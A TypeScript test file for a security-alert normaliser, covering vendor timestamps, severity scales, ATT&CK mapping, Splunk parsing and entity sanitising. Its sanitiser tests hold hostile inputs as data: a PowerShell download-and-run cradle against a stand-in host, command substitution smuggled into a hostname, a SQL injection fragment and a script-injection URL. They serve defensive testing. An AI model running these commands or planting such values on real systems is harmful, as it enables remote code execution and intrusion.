import { adaptPayload } from '../../src/ingest/adapters';
import { parseSplunkRaw } from '../../src/ingest/adapters/splunk.adapter';
import { EntityCollector, sanitiseEntityValue } from '../../src/ingest/normalise/entity.collector';
import { guardDutyTypeMapping, knownTactic, normaliseTactic, techniqueIdsIn } from '../../src/ingest/normalise/mitre.normaliser';
import {
  severityFromAsffNormalized,
  severityFromElasticRiskScore,
  severityFromGuardDuty,
  severityFromLabel,
  severityFromOcsfId,
  severityFromScore100,
  severityFromWazuhLevel,
} from '../../src/ingest/normalise/severity.normaliser';
import { normaliseTimestamp } from '../../src/ingest/normalise/timestamp.normaliser';
import { alertsOf, loadSample } from './samples.helper';

describe('normaliseTimestamp', () => {
  it.each([
    ['2022-10-03T03:39:21.7562976Z', '2022-10-03T03:39:21.756Z'], // 7 digits, truncated
    ['2023-11-03T18:01:23.995794943Z', '2023-11-03T18:01:23.995Z'], // nanoseconds
    ['2024-08-19T18:44:01.1Z', '2024-08-19T18:44:01.100Z'],
    ['2022-11-17T19:17:42.694+0200', '2022-11-17T17:17:42.694Z'], // Wazuh offset without colon
    ['2020-08-24T12:10:17.000-07:00', '2020-08-24T19:10:17.000Z'],
    ['2025-02-10T11:50:16.000+05:30', '2025-02-10T06:20:16.000Z'],
    ['2022-11-17 17:15:04', '2022-11-17T17:15:04.000Z'], // no zone = UTC
    ['2024-01-31', '2024-01-31T00:00:00.000Z'],
    [1672758699558, '2023-01-03T15:11:39.558Z'], // epoch ms (OCSF)
    [1723564700, '2024-08-13T15:58:20.000Z'], // epoch s (Okta sample)
    ['1717578924', '2024-06-05T09:15:24.000Z'], // Splunk _indextime
    ['1596545113.965466000', '2020-08-04T12:45:13.965Z'],
    [1_699_034_421_000_000, '2023-11-03T18:00:21.000Z'], // µs
  ])('%p → %s', (input, expected) => {
    expect(normaliseTimestamp(input)).toBe(expected);
  });

  it.each([
    'xyz',
    'none',
    '',
    '1', // epoch placeholder (1970)
    0,
    '1970-01-01T00:00:00Z',
    '2021-02-30T00:00:00Z',
    '2021-13-01',
    '2021-01-01T25:00:00Z',
    '2021-01-01T00:00:00+25:00',
    'Tue, 03 Oct 2022 10:00:00 GMT',
    -5,
    NaN,
    {},
    null,
  ])('rejects %p', (input) => {
    expect(normaliseTimestamp(input)).toBeUndefined();
  });
});

describe('severity scales', () => {
  it('labels are case-insensitive; unknown labels are undecided', () => {
    expect(['High', 'HIGH', 'informational', 'Info', 'Critical', 'moderate'].map(severityFromLabel)).toEqual([
      'high',
      'high',
      'informational',
      'informational',
      'critical',
      'medium',
    ]);
    expect(severityFromLabel('unknown')).toBeUndefined();
    expect(severityFromLabel('SEVERITY_UNSPECIFIED')).toBeUndefined();
    expect(severityFromLabel(3)).toBeUndefined();
  });

  it('GuardDuty 0–10', () => {
    expect([0.5, 1, 2, 3.9, 4, 5, 6.9, 7, 8, 8.9, 9, 10].map(severityFromGuardDuty)).toEqual([
      'informational', 'low', 'low', 'low', 'medium', 'medium', 'medium', 'high', 'high', 'high', 'critical', 'critical',
    ]);
    expect(severityFromGuardDuty(11)).toBeUndefined();
    expect(severityFromGuardDuty('HIGH')).toBe('high');
  });

  it('Wazuh rule level 0–15', () => {
    expect([0, 3, 4, 5, 6, 7, 11, 12, 14, 15, 16].map(severityFromWazuhLevel)).toEqual([
      'informational', 'informational', 'low', 'low', 'low', 'medium', 'medium', 'high', 'high', 'critical', 'critical',
    ]);
  });

  it('0–100 scores (CrowdStrike, SecOps riskScore), ASFF Normalized, Elastic risk score', () => {
    expect([0, 19, 20, 39, 40, 69, 70, 79, 89, 90, 100].map(severityFromScore100)).toEqual([
      'informational', 'informational', 'low', 'low', 'medium', 'medium', 'high', 'high', 'high', 'critical', 'critical',
    ]);
    expect(severityFromScore100(101)).toBeUndefined();
    expect([0, 1, 39, 40, 69, 70, 89, 90].map(severityFromAsffNormalized)).toEqual([
      'informational', 'low', 'low', 'medium', 'medium', 'high', 'high', 'critical',
    ]);
    expect([21, 22, 47, 48, 73, 74].map(severityFromElasticRiskScore)).toEqual(['low', 'medium', 'medium', 'high', 'high', 'critical']);
  });

  it('OCSF severity_id', () => {
    expect([0, 1, 2, 3, 4, 5, 6, 99].map(severityFromOcsfId)).toEqual([
      undefined, 'informational', 'low', 'medium', 'high', 'critical', 'critical', undefined,
    ]);
  });

  it('numeric severities in the adapters', () => {
    const cs = loadSample('crowdstrike/falcon-alert-epp-ldt-ml-pup-quarantine.json') as Record<string, unknown>;
    expect(alertsOf(adaptPayload('crowdstrike', { ...cs, severity: 95 }))[0].severity).toBe('critical');
    expect(alertsOf(adaptPayload('crowdstrike', { ...cs, severity: 95, severity_name: 'Medium' }))[0].severity).toBe('medium');
    const ocsf = loadSample('ocsf/security-finding-2001-falco.json') as Record<string, unknown>;
    expect(alertsOf(adaptPayload('ocsf', { ...ocsf, severity_id: 99, severity: 'High' }))[0].severity).toBe('high');
    const asff = loadSample('asff/asff-inspector-openssl-cve.json') as Record<string, unknown>;
    expect(alertsOf(adaptPayload('security_hub', { ...asff, Severity: { Normalized: 75 }, FindingProviderFields: {} }))[0].severity).toBe('high');
  });
});

describe('tactics and techniques', () => {
  it('normalises vendor tactic spellings to ATT&CK shortnames', () => {
    expect(['Defense Evasion', 'DefenseEvasion', 'DEFENSE_EVASION', 'defense-evasion', 'TA0005'].map(normaliseTactic)).toEqual(
      Array(5).fill('defense-evasion'),
    );
    expect(['Command and Control', 'CommandAndControl', 'TA0011'].map(normaliseTactic)).toEqual(Array(3).fill('command-and-control'));
    expect(normaliseTactic('InitialAccess')).toBe('initial-access');
    expect(normaliseTactic('MachineLearning')).toBe('machine-learning'); // vendor-stated, kept
    expect(normaliseTactic('Unknown')).toBeUndefined();
    expect(normaliseTactic('TA9999')).toBeUndefined();
    expect(knownTactic('SuspiciousActivity')).toBeUndefined();
    expect(knownTactic('Persistence')).toBe('persistence');
  });

  it('extracts ATT&CK/ATLAS ids only, upper-cased', () => {
    expect(techniqueIdsIn(['t1059.001', 'T1078 and T1566.002', 'CST0000', 'TA0005', 'AML.T0051.000', 'aml.t0043', 'T12345', 'XT1059'])).toEqual([
      'T1059.001',
      'T1078',
      'T1566.002',
      'AML.T0051.000',
      'AML.T0043',
    ]);
  });

  it('GuardDuty finding types: only defensible mappings', () => {
    expect(guardDutyTypeMapping('UnauthorizedAccess:IAMUser/TorIPCaller')).toEqual({ tactics: [], techniques: ['T1090.003'] });
    expect(guardDutyTypeMapping('Impact:EC2/WinRMBruteForce')).toEqual({ tactics: ['impact'], techniques: ['T1110'] });
    expect(guardDutyTypeMapping('Impact:S3/MaliciousIPCaller')).toEqual({ tactics: ['impact'], techniques: [] });
    expect(guardDutyTypeMapping('Stealth:IAMUser-CloudTrailLoggingDisabled')).toEqual({ tactics: ['defense-evasion'], techniques: ['T1562.008'] });
    expect(guardDutyTypeMapping('CryptoCurrency:EC2/BitcoinTool.B!DNS')).toEqual({ tactics: ['impact'], techniques: ['T1496'] });
    expect(guardDutyTypeMapping('Recon:EC2/PortProbeUnprotectedPort')).toEqual({ tactics: ['reconnaissance'], techniques: ['T1595'] });
    expect(guardDutyTypeMapping('Policy:IAMUser/RootCredentialUsage')).toEqual({ tactics: [], techniques: [] });
  });

  it('GCP SCC mitreAttack enum names map through the documented table', () => {
    const item = loadSample('gcp_scc/scc-listfindings-result-critical-application.json') as { finding: Record<string, unknown> };
    item.finding.mitreAttack = {
      primaryTactic: 'CREDENTIAL_ACCESS',
      primaryTechniques: ['BRUTE_FORCE'],
      additionalTactics: ['INITIAL_ACCESS'],
      additionalTechniques: ['VALID_ACCOUNTS', 'CLOUD_ACCOUNTS', 'SOMETHING_NEW'],
    };
    const [a] = alertsOf(adaptPayload('gcp_scc', item));
    expect(a.tactics).toEqual(['credential-access', 'initial-access']);
    expect(a.techniques).toEqual(['T1110', 'T1078', 'T1078.004']);
  });

  it('Splunk annotations in top-level fields (multi-value) and in JSON annotations', () => {
    const raw = loadSample('splunk/notable-raw-excessive-failed-logins.json') as Record<string, unknown>;
    const a = alertsOf(
      adaptPayload('splunk', {
        ...raw,
        'annotations.mitre_attack.mitre_technique_id': ['T1110.001', 'T1078'],
        'annotations.mitre_attack.mitre_tactic': ['credential-access'],
        'annotations.mitre_attack.mitre_tactic_id': 'TA0001',
        urgency: 'high',
      }),
    )[0];
    expect(a.techniques).toEqual(['T1110.001', 'T1078']);
    expect(a.tactics).toEqual(['credential-access', 'initial-access']);
    expect(a.severity).toBe('high');
    const b = alertsOf(adaptPayload('splunk', { ...raw, annotations: '{"mitre_attack":["T1059.003"]}' }))[0];
    expect(b.techniques).toEqual(['T1059.003']);
  });
});

describe('Splunk _raw parsing', () => {
  it('parses double-, single- and unquoted pairs, repeated keys and malformed quoting', () => {
    const f = parseSplunkRaw(`1596545116, search_name='Endpoint - Rule', count=17, orig_tag="a", orig_tag="b", msg="say \\"hi\\"", 'signature='Trojan.Gen.2'`);
    expect(f).toEqual({ search_name: 'Endpoint - Rule', count: '17', orig_tag: ['a', 'b'], msg: 'say "hi"', signature: 'Trojan.Gen.2' });
    expect(parseSplunkRaw('{"src":"1.2.3.4","user":"bob"}')).toEqual({ src: '1.2.3.4', user: 'bob' });
    expect(parseSplunkRaw(undefined)).toEqual({});
  });
});

describe('entity sanitising (spec §4.5)', () => {
  it('strips the dangerous characters, except in command lines', () => {
    expect(sanitiseEntityValue(`a;b|c&d\`e$f(g)h{i}j[k]l<m>n'o"p`)).toBe('abcdefghijklmnop');
    expect(sanitiseEntityValue('cmd.exe /c "whoami & net user" | more', { commandLine: true })).toBe('cmd.exe /c "whoami & net user" | more');
  });

  it('truncates to 2,048 characters (command lines too)', () => {
    expect(sanitiseEntityValue('a'.repeat(5000))).toHaveLength(2048);
    expect(sanitiseEntityValue(';'.repeat(100) + 'b'.repeat(3000))).toBe('b'.repeat(2048));
    expect(sanitiseEntityValue('x'.repeat(3000), { commandLine: true })).toHaveLength(2048);
  });

  it('format checks: IPs, hashes, mailboxes, domains; placeholders are rejected', () => {
    const e = new EntityCollector();
    expect(e.add('ip', '256.1.1.1')).toBeUndefined();
    expect(e.add('ip', 'xxx.xxx.x.x')).toBeUndefined();
    expect(e.add('ip', '[2001:db8::1]')?.value).toBe('2001:db8::1');
    expect(e.add('filehash', 'w41d8cd98f00b204e9800998ecf8427e')).toBeUndefined();
    expect(e.add('filehash', '0000000000000000000000000000000000000000')).toBeUndefined();
    expect(e.add('filehash', 'D41D8CD98F00B204E9800998ECF8427E')?.properties.algorithm).toBe('md5');
    expect(e.add('mailbox', 'not-an-address')).toBeUndefined();
    expect(e.add('dns', 'localhost')).toBeUndefined();
    expect(e.add('dns', 'Evil.Example.COM.')?.value).toBe('evil.example.com');
    expect(e.add('host', 'two words')).toBeUndefined();
  });

  it('sanitises string properties but keeps command-line properties verbatim; dedupes and merges', () => {
    const e = new EntityCollector();
    e.add('process', 'powershell.exe', { commandLine: 'powershell -c "iex (iwr http://x)"', note: '<b>bold</b>', nested: { a: 1 }, pid: 7 });
    e.add('process', 'PowerShell.exe', { parent: 'explorer.exe', pid: 8 });
    const [p] = e.list();
    expect(p.properties).toEqual({ commandLine: 'powershell -c "iex (iwr http://x)"', note: 'bbold/b', pid: 7, parent: 'explorer.exe' });
    expect(e.list()).toHaveLength(1);
  });

  it('vendor entities are sanitised end to end', () => {
    const alert = (loadSample('defender_graph/graph-alerts-v2-list-mde-hidden-file.json') as { value: Record<string, unknown>[] }).value[0];
    const evil = {
      ...alert,
      evidence: [
        { '@odata.type': '#microsoft.graph.security.deviceEvidence', deviceDnsName: 'host$(reboot);', ipInterfaces: ['10.0.0.1; DROP TABLE'] },
        {
          '@odata.type': '#microsoft.graph.security.processEvidence',
          processCommandLine: 'cmd /c "echo `id` > $(tmp)"' + ' '.repeat(10) + 'z'.repeat(3000),
          imageFile: { fileName: 'cmd.exe' },
        },
        { '@odata.type': '#microsoft.graph.security.urlEvidence', url: 'http://x.example/<script>alert(1)</script>' },
      ],
    };
    const [a] = alertsOf(adaptPayload('defender', { value: [evil] }));
    expect(a.entities.map((x) => `${x.type}:${x.value}`)).toEqual([
      'host:hostreboot',
      'process:cmd.exe',
      'file:cmd.exe',
      'url:http://x.example/scriptalert1/script',
    ]); // the IP "10.0.0.1; DROP TABLE" is no address once sanitised, so it is dropped
    const cmd = String(a.entities[1].properties.commandLine);
    expect(cmd.startsWith('cmd /c "echo `id` > $(tmp)"')).toBe(true);
    expect(cmd).toHaveLength(2048);
  });
});
